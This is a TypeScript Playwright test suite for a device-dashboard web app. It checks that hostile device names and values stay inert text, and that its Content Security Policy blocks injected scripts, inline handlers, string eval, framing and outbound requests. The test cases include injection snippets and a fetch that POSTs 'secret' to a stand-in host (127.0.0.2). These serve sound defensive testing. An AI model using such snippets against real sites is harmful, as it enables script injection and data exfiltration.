/** A device that tries everything: names, values and payloads that are markup and script stay text, in every view. */
import { describe, expect, test } from "@jest/globals";
import type { Page } from "playwright-core";
import { hostileName, hostileText } from "./support/fake-tables.ts";
import { eventually, pageTests } from "./support/open-page.ts";

const tests = pageTests({ hostile: true });
/** As the lake keeps it. */
const storedText = hostileText.replaceAll("\u0000", "");

/** Nothing ran, and no element came out of what a device sent. */
async function expectInert(page: Page): Promise<void> {
  const found = await page.evaluate(() => ({
    pwned: "pwned" in globalThis,
    images: document.querySelectorAll("img, iframe, object, embed, base").length,
    scripts: [...document.scripts].filter((script) => !script.src.startsWith(location.origin)).length,
    handlers: [...document.querySelectorAll("*")].flatMap((element) =>
      element.getAttributeNames().filter((name) => name.startsWith("on")),
    ),
  }));
  expect(found).toEqual({ pwned: false, images: 0, scripts: 0, handlers: [] });
}

describe("what a device sends is shown as text", () => {
  test("its id, profile, metric, sub-device, unit and value in the first view", async () => {
    const page = await tests.open();
    await page.locator(".device-id").getByText(hostileName, { exact: true }).waitFor();
    await page.getByLabel("Search device or metric").fill("pwned=1");
    const row = page.locator(".latest tbody tr");
    await eventually(async () => expect(await row.count()).toBe(1));
    expect(await row.locator(".device-cell").textContent()).toBe(hostileName);
    expect(await row.locator(".value").textContent()).toBe(storedText);
    expect(await row.locator(".unit").textContent()).toBe(hostileName);
    await expectInert(page);
    await page.locator(".device").filter({ hasText: hostileName }).click();
    await page.locator(".chip").filter({ hasText: storedText }).waitFor();
    await eventually(async () =>
      expect(await page.locator(".plot-chart").getAttribute("aria-label")).toContain(hostileName),
    );
    await expectInert(page);
    await page.reload();
    await page.locator(".chip").filter({ hasText: storedText }).waitFor();
    await expectInert(page);
  });

  test("its quarantined message, and the name of the file that it is saved as", async () => {
    const page = await tests.open("#/quarantine");
    await page.locator(".detail .reason").getByText(hostileName, { exact: true }).waitFor();
    expect(await page.locator(".dump").textContent()).toContain("3c 69 6d 67 20 73 72 63");
    const download = page.waitForEvent("download");
    await page.getByRole("button", { name: "Save bytes" }).click();
    expect((await download).suggestedFilename()).toMatch(/^[\w.-]+\.bin$/);
    await expectInert(page);
  });

  test("in the environment, and in an answer of SQL and its errors", async () => {
    const page = await tests.open("#/environment");
    await page.locator(".resources td").getByText(hostileText, { exact: false }).first().waitFor();
    await expectInert(page);
    await page.goto(`${tests.site.url}#/sql`);
    const editor = page.getByLabel("SQL statement");
    await editor.fill(
      `SELECT device_id, metric AS "${hostileName.replaceAll('"', '""')}" FROM latest WHERE contains(device_id, 'pwned')`,
    );
    await editor.press("Control+Enter");
    await page.locator(".answer td").getByText(hostileName, { exact: true }).waitFor();
    await expectInert(page);
    await editor.fill(`SELECT "${hostileName.replaceAll('"', '""')}"`);
    await editor.press("Control+Enter");
    await page.locator(".query-error").getByText("onerror").waitFor();
    await expectInert(page);
    expect(tests.takeFaults()).toHaveLength(1);
  });

  test("in an address that somebody was sent", async () => {
    const markup = encodeURIComponent(hostileName);
    const page = await tests.open(`#/fleet?device=${markup}&metric=${markup}`);
    await page.goto(`${tests.site.url}#/quarantine?entry=${markup}`);
    await page.goto(`${tests.site.url}#/sql?q=${markup}`);
    expect(await page.getByLabel("SQL statement").inputValue()).toBe(hostileName);
    await page.goto(`${tests.site.url}#/${markup}?${markup}`);
    await page.locator(".fleet-view").waitFor();
    await expectInert(page);
  });
});

describe("were something to slip through, the browser would refuse it", () => {
  const refused = (text: string) => expect.stringContaining(text);

  test.each([
    [
      "an inline script",
      `const s = document.createElement("script"); s.append("globalThis.pwned = 1"); document.body.append(s)`,
    ],
    [
      "an inline handler",
      `document.body.setAttribute("onclick", "globalThis.pwned = 1"); document.body.click()`,
    ],
    ["markup from a string", `document.body.innerHTML = "<p>x</p>"`],
    ["code from a string", `setTimeout("globalThis.pwned = 1")`],
  ])("%s", async (_, code) => {
    const page = await tests.open();
    // A function: what runs as a string of the debugger is not bound by the policy.
    const attempt = new Function(code) as () => void;
    await page.evaluate(attempt).catch(() => undefined);
    await page.waitForTimeout(50);
    expect(await page.evaluate(() => "pwned" in globalThis)).toBe(false);
    expect(tests.takeFaults().join("\n")).toMatch(/Content Security Policy|Trusted/);
  });

  test.each([
    [
      "a style sheet of another server",
      () =>
        void document.head.append(
          Object.assign(document.createElement("link"), {
            rel: "stylesheet",
            href: "http://127.0.0.2:9/x.css",
          }),
        ),
    ],
    [
      "an image of another server",
      () => void document.body.append(Object.assign(new Image(), { src: "http://127.0.0.2:9/x.png" })),
    ],
    [
      "a message to another server",
      () =>
        void fetch("http://127.0.0.2:9/", { method: "POST", body: "secret", mode: "no-cors" }).catch(
          () => undefined,
        ),
    ],
    ["a socket to another server", () => void new WebSocket("ws://127.0.0.2:9/")],
    [
      "a frame",
      () =>
        void document.body.append(
          Object.assign(document.createElement("iframe"), { src: "http://127.0.0.2:9/" }),
        ),
    ],
    [
      "a form that leads away",
      () => {
        const form = Object.assign(document.createElement("form"), {
          action: "http://127.0.0.2:9/",
          method: "post",
        });
        document.body.append(form);
        form.submit();
      },
    ],
  ])("%s", async (_, attempt) => {
    const page = await tests.open();
    await page.evaluate(attempt).catch(() => undefined);
    const faults: string[] = [];
    await eventually(async () => {
      faults.push(...tests.takeFaults());
      expect(faults).toContainEqual(refused("Content Security Policy"));
    });
    expect(faults.filter((fault) => fault.startsWith("request:"))).toEqual([]);
  });

  test("the page in another page's frame", async () => {
    const page = await tests.visit();
    await page.setContent(`<iframe src="${tests.site.link}"></iframe>`);
    await eventually(async () =>
      expect(tests.takeFaults()).toContainEqual(refused("frame-ancestors 'none'")),
    );
    expect(page.frames().map((frame) => frame.url())).not.toContain(tests.site.url);
  });
});
